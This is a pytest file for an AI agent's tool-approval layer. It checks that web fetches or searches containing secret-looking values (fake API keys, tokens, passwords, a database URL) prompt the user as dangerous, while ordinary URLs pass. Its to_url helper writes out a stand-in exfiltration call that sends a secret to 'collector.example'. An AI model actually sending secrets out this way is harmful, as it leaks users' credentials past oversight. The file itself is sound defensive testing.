"""A secret that a model has read must not leave unseen in the words of a search or in an address."""

from urllib.parse import quote

import pytest

from tests.integration.tools.tool_workspace import call, open_kit, room_in

SECRETS = [
    "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "AKIAIOSFODNN7EXAMPLQ",
    "password=Tr0ub4dor-and-3-horses",
    "postgres://me:hunter2hunter2@db.internal/x",
]
ORDINARY = [
    "https://github.com/python/cpython/commit/0f2ba6580f9f8c5e0e4f1a5e7b3d1c9a8b7c6d5e",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
    "https://en.wikipedia.org/w/index.php?title=Password&action=history",
    "https://example.com/search?q=how+to+rotate+an+api+key&page=2",
    "https://example.com/project/httpx/0.28.1/#files",
    "https://example.com/reset-password/help?lang=de",
]


def to_url(secret):
    return f"https://collector.example/?d={quote(secret, safe='')}"


@pytest.mark.parametrize("secret", SECRETS)
async def test_an_address_with_a_secret_is_asked_for(secret, tmp_path):
    async with open_kit() as kit:
        room = await room_in(kit, tmp_path)
        room.answers = ["deny"]
        told = await call(kit, room, "web_fetch", url=to_url(secret))
        plain = await call(
            kit, room, "web_fetch", url=f"https://collector.example/{secret.partition('//')[2] or secret}"
        )
    assert not told.ok
    assert not plain.ok
    question = room.asked[0]
    assert "looks like a secret" in question.text
    assert (question.dangerous, question.scope) == (True, "network")


@pytest.mark.parametrize("secret", SECRETS)
async def test_words_of_a_search_with_a_secret_are_asked_for(secret, tmp_path):
    async with open_kit() as kit:
        room = await room_in(kit, tmp_path)
        room.answers = ["deny"]
        told = await call(kit, room, "web_search", query=f"what is {secret}")
    assert not told.ok
    (question,) = room.asked
    assert "looks like a secret" in question.text
    assert secret in question.detail


@pytest.mark.parametrize("url", ORDINARY)
async def test_an_ordinary_address_is_not_asked_for(url, tmp_path):
    async with open_kit(**{"tools.approval": "always"}) as kit:
        room = await room_in(kit, tmp_path)
        room.answers = ["deny"]
        await call(kit, room, "web_fetch", url=url)
    assert room.asked == []
